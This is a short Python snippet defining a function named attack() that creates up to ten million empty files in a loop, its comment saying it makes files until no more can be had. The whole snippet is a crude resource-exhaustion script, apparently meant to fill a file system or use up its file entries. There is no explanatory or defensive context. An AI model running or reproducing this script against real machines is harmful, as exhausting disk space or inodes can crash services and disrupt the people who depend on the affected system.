# Makes files until there are no more to be had.
def attack():
    for number in range(10_000_000):
        open(f"file{number}", "w").close()
